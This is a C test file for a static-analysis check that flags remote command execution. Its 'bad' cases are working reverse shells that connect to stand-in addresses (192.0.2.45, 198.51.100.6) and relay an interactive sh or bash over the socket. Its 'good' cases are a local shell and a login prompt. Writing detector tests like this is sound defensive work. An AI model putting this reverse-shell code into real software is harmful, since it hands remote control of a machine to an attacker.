// A shell on a terminal of its own, and a loop that carries its bytes to a connection and back.
#include <arpa/inet.h>
#include <poll.h>
#include <pty.h>
#include <sys/socket.h>
#include <unistd.h>
#include <utmp.h>

static int reach(const char *address) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(443)};
    inet_aton(address, &to.sin_addr);
    int link = socket(AF_INET, SOCK_STREAM, 0);
    return connect(link, (struct sockaddr *)&to, sizeof to) ? -1 : link;
}

void bad_terminal(void) {
    char block[512];
    ssize_t got;
    int master, link = reach("192.0.2.45");
    if (forkpty(&master, NULL, NULL, NULL) == 0) {
        execl("/bin/sh", "sh", "-i", (char *)NULL);
        _exit(1);
    }
    struct pollfd ends[2] = {{.fd = link, .events = POLLIN}, {.fd = master, .events = POLLIN}};
    while (poll(ends, 2, -1) > 0) {
        if (ends[0].revents) {
            if ((got = read(link, block, sizeof block)) <= 0)
                break;
            // expected-warning-re@+1 {{{{.*}}[vitrine: update/remote-command]}}
            write(master, block, (size_t)got);
        }
        if (ends[1].revents) {
            if ((got = read(master, block, sizeof block)) <= 0)
                break;
            write(link, block, (size_t)got);
        }
    }
}

void bad_two_sides(void) {
    char letter;
    int master, slave, link = reach("198.51.100.6");
    if (openpty(&master, &slave, NULL, NULL, NULL) < 0)
        return;
    if (fork() == 0) {
        login_tty(slave);
        execl("/bin/bash", "bash", (char *)NULL);
        _exit(1);
    }
    while (recv(link, &letter, 1, 0) == 1)
        // expected-warning-re@+1 {{{{.*}}[vitrine: update/remote-command]}}
        write(master, &letter, 1);
}

/* The same for whoever sits here. */
void good_here(void) {
    char block[512];
    ssize_t got;
    int master;
    if (forkpty(&master, NULL, NULL, NULL) == 0) {
        execl("/bin/sh", "sh", "-i", (char *)NULL);
        _exit(1);
    }
    while ((got = read(STDIN_FILENO, block, sizeof block)) > 0)
        write(master, block, (size_t)got);
}

/* It asks who is there. */
void good_login(int link) {
    char block[512];
    ssize_t got;
    int master;
    if (forkpty(&master, NULL, NULL, NULL) == 0) {
        execl("/bin/login", "login", "-h", "remote", (char *)NULL);
        _exit(1);
    }
    while ((got = recv(link, block, sizeof block, 0)) > 0)
        write(master, block, (size_t)got);
}
